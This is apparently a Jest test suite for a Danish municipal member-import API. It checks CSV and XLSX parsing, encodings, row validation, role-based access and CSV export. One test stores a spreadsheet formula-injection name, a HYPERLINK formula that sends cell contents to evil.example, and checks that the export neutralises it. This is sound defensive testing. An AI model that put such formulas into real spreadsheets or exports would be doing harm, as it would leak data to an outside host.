import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createCycle, member, municipalContactToken, upload } from './factories/cycles';
import { startTestApp, TestApp } from './helpers/test-app';

const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', 'import', name));

interface MemberRow {
  name: string | null;
  email: string | null;
  phone: string | null;
  municipality_code: number;
  list_letter: string;
  list_name: string;
  newly_elected: boolean | number;
  role: string;
  diet: string | null;
  accessibility: string | null;
  note: string | null;
}

describe('Member import', () => {
  let t: TestApp;
  let admin: string;
  let planner: string;

  beforeAll(async () => {
    t = await startTestApp();
    [admin, planner] = [await t.tokenFor('admin'), await t.tokenFor('planner')];
  });
  afterAll(() => t.close());

  const rowsOf = async (cycleId: number): Promise<MemberRow[]> =>
    t.dataSource.query(
      `SELECT name, email, phone, municipality_code, list_letter, list_name, newly_elected, role, diet,
              accessibility, note FROM members WHERE cycle_id = ${cycleId} ORDER BY email`,
    );
  const byEmail = async (cycleId: number) => new Map((await rowsOf(cycleId)).map((r) => [r.email, r]));

  describe('a Danish file (;, UTF-8 without BOM, quoted fields with ; and line breaks)', () => {
    let cycleId: number;
    beforeAll(async () => {
      cycleId = await createCycle(t, planner);
    });

    it('reports every row in a dry run and changes nothing', async () => {
      const res = await upload(t, planner, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=true').expect(
        200,
      );
      expect(res.body).toMatchObject({
        dryRun: true,
        applied: false,
        file: { format: 'csv', encoding: 'utf-8', delimiter: ';', ignoredColumns: [] },
        summary: { rows: 4, created: 4, updated: 0, unchanged: 0, rejected: 0 },
      });
      expect(res.body.rows.map((r: { row: number; status: string }) => [r.row, r.status])).toEqual([
        [2, 'created'],
        [3, 'created'],
        [4, 'created'],
        [5, 'created'],
      ]);
      await expect(rowsOf(cycleId)).resolves.toEqual([]);
    });

    it('commits the same report and stores the members as the file says', async () => {
      const dry = await upload(t, planner, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=true');
      const res = await upload(
        t,
        planner,
        cycleId,
        fixture('kv25-utf8-semicolon.csv'),
        'dryRun=false',
      ).expect(200);
      expect(res.body).toMatchObject({ dryRun: false, applied: true });
      expect(res.body.rows).toEqual(dry.body.rows);
      const stored = await byEmail(cycleId);
      expect(stored.size).toBe(4);
      expect(stored.get('soeren.oestergaard@odense.dk')).toMatchObject({
        name: 'Søren Østergaard',
        phone: '+45 21 22 23 24',
        municipality_code: 461,
        list_letter: 'A',
        list_name: 'Socialdemokratiet',
        role: 'mayor',
        diet: 'vegetar',
      });
      expect(Boolean(stored.get('soeren.oestergaard@odense.dk')?.newly_elected)).toBe(true);
      expect(stored.get('aase.jorgensen@odense.dk')).toMatchObject({
        name: 'Åse Bæk Jørgensen',
        list_name: 'Venstre, Danmarks Liberale Parti',
        accessibility: 'kørestol; stue-etage',
        note: 'Ankommer sent\nfredag',
      });
      expect(stored.get('mette.hansen@aarhus.dk')).toMatchObject({
        municipality_code: 751,
        role: 'committee_chair',
      });
      expect(stored.get('bjoern@aarhus.dk')).toMatchObject({
        list_letter: 'L',
        list_name: 'Lokallisten Aarhus',
      });
    });

    it('changes nothing when the same file is imported again', async () => {
      const before = await rowsOf(cycleId);
      const res = await upload(
        t,
        planner,
        cycleId,
        fixture('kv25-utf8-semicolon.csv'),
        'dryRun=false',
      ).expect(200);
      expect(res.body.summary).toEqual({ rows: 4, created: 0, updated: 0, unchanged: 4, rejected: 0 });
      await expect(rowsOf(cycleId)).resolves.toEqual(before);
    });

    it('updates only what a corrected file changes', async () => {
      const res = await upload(
        t,
        planner,
        cycleId,
        fixture('kv25-utf8-semicolon-corrected.csv'),
        'dryRun=false',
      ).expect(200);
      expect(res.body.summary).toEqual({ rows: 4, created: 0, updated: 2, unchanged: 2, rejected: 0 });
      const updated = res.body.rows.filter((r: { status: string }) => r.status === 'updated');
      expect(updated.map((r: { email: string; changes: string[] }) => [r.email, r.changes])).toEqual([
        ['mette.hansen@aarhus.dk', ['phone']],
        ['bjoern@aarhus.dk', ['role']],
      ]);
      const stored = await byEmail(cycleId);
      expect(stored.get('mette.hansen@aarhus.dk')?.phone).toBe('+45 30 30 30 30');
      expect(stored.get('bjoern@aarhus.dk')?.role).toBe('deputy_mayor');
      expect(stored.get('soeren.oestergaard@odense.dk')?.role).toBe('mayor');
    });
  });

  it('applies the same correction to many members', async () => {
    const cycleId = await createCycle(t, planner);
    await upload(t, planner, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=false').expect(200);
    const text = fixture('kv25-utf8-semicolon.csv').toString('utf8');
    const allReElected = text.replace(/;(ja|1);/g, ';nej;');
    const res = await upload(t, planner, cycleId, Buffer.from(allReElected, 'utf8'), 'dryRun=false').expect(
      200,
    );
    expect(res.body.summary).toMatchObject({ updated: 3, unchanged: 1 });
    const stored = await rowsOf(cycleId);
    expect(stored.map((r) => Boolean(r.newly_elected))).toEqual([false, false, false, false]);
    expect(stored.map((r) => r.role).sort()).toEqual(['committee_chair', 'mayor', 'member', 'member']);
  });

  it('gives each member its own new values when many change the same fields', async () => {
    const cycleId = await createCycle(t, planner);
    await upload(t, planner, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=false').expect(200);
    const corrected = fixture('kv25-utf8-semicolon.csv')
      .toString('utf8')
      .replace('Søren Østergaard;', 'Søren Øster Gaard;')
      .replace('Åse Bæk Jørgensen;', 'Åse Bæk;')
      .replace(';+45 21 22 23 24;', ';11111111;')
      .replace('mette.hansen@aarhus.dk;;', 'mette.hansen@aarhus.dk;22222222;')
      .replace('bjoern@aarhus.dk;87654321;', 'bjoern@aarhus.dk;;');
    const res = await upload(t, planner, cycleId, Buffer.from(corrected, 'utf8'), 'dryRun=false').expect(200);
    expect(res.body.summary).toMatchObject({ updated: 4, unchanged: 0 });
    const stored = await byEmail(cycleId);
    expect([...stored.values()].map((r) => [r.email, r.name, r.phone])).toEqual([
      ['aase.jorgensen@odense.dk', 'Åse Bæk', null],
      ['bjoern@aarhus.dk', 'Bjørn Ærenlund', null],
      ['mette.hansen@aarhus.dk', 'Mette Frederiksen Hansen', '22222222'],
      ['soeren.oestergaard@odense.dk', 'Søren Øster Gaard', '11111111'],
    ]);
    const found = await t
      .http()
      .get(`/api/cycles/${cycleId}/members?q=${encodeURIComponent('øster gaard')}`)
      .auth(planner, { type: 'bearer' })
      .expect(200);
    expect(found.body.items.map((m: { email: string }) => m.email)).toEqual(['soeren.oestergaard@odense.dk']);
  });

  it('keeps two simultaneous imports of one file from storing anybody twice', async () => {
    const cycleId = await createCycle(t, planner);
    const file = fixture('kv25-utf8-semicolon.csv');
    const results = await Promise.all([1, 2].map(() => upload(t, planner, cycleId, file, 'dryRun=false')));
    const statuses = results.map((r) => r.status).sort();
    expect([
      [200, 200],
      [200, 409],
    ]).toContainEqual(statuses);
    await expect(rowsOf(cycleId)).resolves.toHaveLength(4);
  });

  it('finds the header below a title row and checks that municipality code and name agree', async () => {
    const cycleId = await createCycle(t, planner);
    const res = await upload(
      t,
      planner,
      cycleId,
      fixture('title-row-code-and-name.csv'),
      'dryRun=true',
    ).expect(200);
    expect(res.body.summary).toMatchObject({ rows: 3, created: 2, rejected: 1 });
    expect(res.body.rows[2]).toMatchObject({
      row: 6,
      status: 'rejected',
      reasons: [{ field: 'municipality', reason: '"461" and "Aarhus" are not the same municipality' }],
    });
  });

  it('reads English headers, `,`, a BOM, CRLF and doubled quotes', async () => {
    const cycleId = await createCycle(t, planner);
    const res = await upload(t, planner, cycleId, fixture('kv25-bom-comma-crlf.csv'), 'dryRun=false').expect(
      200,
    );
    expect(res.body).toMatchObject({
      applied: true,
      file: { encoding: 'utf-8-bom', delimiter: ',' },
      summary: { created: 3, rejected: 0 },
    });
    const stored = await byEmail(cycleId);
    expect(stored.get('karen@kbh.dk')).toMatchObject({ name: 'Karen Ølgaard', municipality_code: 101 });
    expect(stored.get('lars@kbh.dk')).toMatchObject({
      name: 'Lars "Lasse" Æbelø',
      list_name: 'Radikale Venstre',
      role: 'deputy_mayor',
    });
    expect(stored.get('inge@bornholm.dk')).toMatchObject({
      municipality_code: 400,
      list_name: 'Alternativet',
    });
  });

  it('reads a windows-1252 file from Danish Excel with æøå intact', async () => {
    const bytes = fixture('kv25-windows-1252.csv');
    expect(bytes.includes(Buffer.from('æ', 'utf8'))).toBe(false);
    expect(bytes.includes(Buffer.from([0xe6]))).toBe(true);
    const cycleId = await createCycle(t, planner);
    const res = await upload(t, planner, cycleId, bytes, 'dryRun=false').expect(200);
    expect(res.body).toMatchObject({
      file: { encoding: 'windows-1252', delimiter: ';' },
      summary: { created: 3 },
    });
    const stored = await byEmail(cycleId);
    expect(stored.get('jens.moller@aeroe.dk')).toMatchObject({
      name: 'Jens Ærø Møller',
      municipality_code: 492,
      diet: 'Nøddeallergi',
    });
    expect(Boolean(stored.get('jens.moller@aeroe.dk')?.newly_elected)).toBe(true);
    expect(stored.get('graete@aeroe.dk')).toMatchObject({
      name: 'Græte Søndergård',
      list_name: 'Danmarksdemokraterne',
    });
    expect(Boolean(stored.get('graete@aeroe.dk')?.newly_elected)).toBe(false);
    expect(stored.get('aage.hoej@aeroe.dk')).toMatchObject({ name: 'Åge Høj', list_name: 'Ærø Lokalliste' });
  });

  it('reads an XLSX workbook with split names, a hyperlinked e-mail and numeric codes', async () => {
    const cycleId = await createCycle(t, planner);
    const res = await upload(
      t,
      planner,
      cycleId,
      fixture('kv25-members.xlsx'),
      'dryRun=false',
      'valgte.xlsx',
    ).expect(200);
    expect(res.body).toMatchObject({ file: { format: 'xlsx' }, summary: { created: 3, rejected: 0 } });
    const stored = await byEmail(cycleId);
    expect(stored.get('olaf@horsens.dk')).toMatchObject({
      name: 'Ølaf Strøm',
      municipality_code: 615,
      list_name: 'Det Konservative Folkeparti',
    });
    expect(stored.get('trine@horsens.dk')).toMatchObject({
      list_letter: 'L',
      list_name: 'Horsens Lokalliste',
    });
  });

  it('stores formula-like names as data; the export neutralises them', async () => {
    const cycleId = await createCycle(t, planner);
    await upload(t, planner, cycleId, fixture('formula-injection.csv'), 'dryRun=false').expect(200);
    const stored = await byEmail(cycleId);
    expect(stored.get('formel1@test.dk')?.name).toBe('=HYPERLINK("http://evil.example/?x="&A1;"Klik her")');
    const csv = await t
      .http()
      .get(`/api/cycles/${cycleId}/members/export`)
      .auth(planner, { type: 'bearer' })
      .expect(200);
    const lines = csv.text.split('\r\n');
    expect(lines.find((l) => l.includes('formel1'))).toMatch(/^"'=HYPERLINK\(""http/);
    expect(lines.find((l) => l.includes('formel1'))).toContain(";'@SUM(1+1)");
    expect(lines.find((l) => l.includes('formel2'))).toMatch(/^'\+45 Plus Person;/);
    expect(lines.find((l) => l.includes('formel3'))).toMatch(/^'@Snabel;/);
    // The export imports back as it was: the apostrophes are taken off again.
    const again = await upload(t, planner, cycleId, Buffer.from(csv.text, 'utf8'), 'dryRun=true').expect(200);
    expect(again.body.summary).toMatchObject({ unchanged: 3, rejected: 0 });
  });

  describe('a hostile file mixing every error', () => {
    let cycleId: number;
    beforeAll(async () => {
      cycleId = await createCycle(t, planner);
      await t
        .http()
        .post(`/api/cycles/${cycleId}/members`)
        .auth(planner, { type: 'bearer' })
        .send(member({ email: 'optaget@test.dk', municipalityCode: 751, name: 'Allerede Her' }))
        .expect(201);
    });

    it('rejects each bad row with every reason in the dry run', async () => {
      const res = await upload(t, planner, cycleId, fixture('hostile.csv'), 'dryRun=true').expect(200);
      expect(res.body.summary).toEqual({ rows: 11, created: 2, updated: 0, unchanged: 0, rejected: 9 });
      expect(res.body.file.ignoredColumns).toEqual(['CPR-nummer']);
      const reasons = Object.fromEntries(
        res.body.rows.map((r: { row: number; reasons?: Array<{ field: string; reason: string }> }) => [
          r.row,
          r.reasons?.map((p) => `${p.field}: ${p.reason}`),
        ]),
      );
      expect(reasons).toEqual({
        2: undefined,
        3: ['name: missing'],
        4: ['email: "ikke-en-mail" is not an e-mail address'],
        5: ['municipality: unknown municipality "Atlantis"'],
        6: ['email: duplicate within the file (rows 6, 7)'],
        7: ['email: duplicate within the file (rows 6, 7)'],
        8: ['email: same e-mail as another member of the cycle, in another municipality'],
        9: ["list: list Q is not a national party: give the local list's name too"],
        10: ['newlyElected: "måske" is not ja/nej, x/blank, 1/0 or true/false'],
        11: ['role: unknown role "kejser"'],
        13: undefined,
      });
    });

    it('commits nothing while any row is rejected (422)', async () => {
      const res = await upload(t, planner, cycleId, fixture('hostile.csv'), 'dryRun=false').expect(422);
      expect(res.body.error).toBe('unprocessable');
      expect(res.body.details).toContainEqual({ field: 'row 3: name', reason: 'missing' });
      await expect(rowsOf(cycleId)).resolves.toHaveLength(1);
    });

    it('applies only the good rows when asked to skip rejected ones, and never stores the CPR column', async () => {
      const res = await upload(
        t,
        planner,
        cycleId,
        fixture('hostile.csv'),
        'dryRun=false&skipRejected=true',
      ).expect(200);
      expect(res.body).toMatchObject({ applied: true, summary: { created: 2, rejected: 9 } });
      const stored = await rowsOf(cycleId);
      expect(stored.map((r) => r.email)).toEqual(['god@test.dk', 'ogsaa.god@test.dk', 'optaget@test.dk']);
      expect(JSON.stringify(stored)).not.toContain('010203');
    });
  });

  it('refuses a file it cannot use as a whole with 400', async () => {
    const cycleId = await createCycle(t, planner);
    const noFile = await t
      .http()
      .post(`/api/cycles/${cycleId}/members/import?dryRun=true`)
      .auth(planner, { type: 'bearer' })
      .expect(400);
    expect(noFile.body.details).toEqual([{ field: 'file', reason: 'missing' }]);
    const badHeader = await upload(
      t,
      planner,
      cycleId,
      Buffer.from('Fornavn;Alder\nJens;40\n'),
      'dryRun=true',
    ).expect(400);
    expect(badHeader.body.details.map((d: { reason: string }) => d.reason)).toContain(
      'no column for the e-mail (E-mail/email)',
    );
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    await upload(t, planner, cycleId, xls, 'dryRun=true', 'gammel.xls').expect(400);
    await upload(t, planner, cycleId, fixture('hostile.csv'), 'dryRun=maybe').expect(400);
    await upload(t, planner, 9999, fixture('hostile.csv'), 'dryRun=true').expect(404);
  });

  describe('by a municipal contact', () => {
    let cycleId: number;
    let odense: string;
    beforeAll(async () => {
      cycleId = await createCycle(t, planner);
      odense = await municipalContactToken(t, admin, 461);
    });

    it('rejects the rows of another municipality and commits nothing while they are there', async () => {
      const res = await upload(t, odense, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=true').expect(
        200,
      );
      expect(
        res.body.rows.map((r: { row: number; status: string; reasons?: Array<{ code: string }> }) => [
          r.row,
          r.status,
          r.reasons?.map((p) => p.code),
        ]),
      ).toEqual([
        [2, 'created', undefined],
        [3, 'created', undefined],
        [4, 'rejected', ['other_municipality']],
        [5, 'rejected', ['other_municipality']],
      ]);
      await upload(t, odense, cycleId, fixture('kv25-utf8-semicolon.csv'), 'dryRun=false').expect(422);
      await expect(rowsOf(cycleId)).resolves.toEqual([]);
      await upload(
        t,
        odense,
        cycleId,
        fixture('kv25-utf8-semicolon.csv'),
        'dryRun=false&skipRejected=true',
      ).expect(200);
      expect((await rowsOf(cycleId)).map((r) => r.municipality_code)).toEqual([461, 461]);
      await t.dataSource.query(`DELETE FROM members WHERE cycle_id = ${cycleId}`);
    });

    it('imports its own municipality’s members', async () => {
      const res = await upload(t, odense, cycleId, fixture('formula-injection.csv'), 'dryRun=false').expect(
        200,
      );
      expect(res.body.summary.created).toBe(3);
    });

    it('is not open to KL', async () => {
      const kl = await t.tokenFor('kl');
      await upload(t, kl, cycleId, fixture('formula-injection.csv'), 'dryRun=true').expect(403);
    });
  });
});
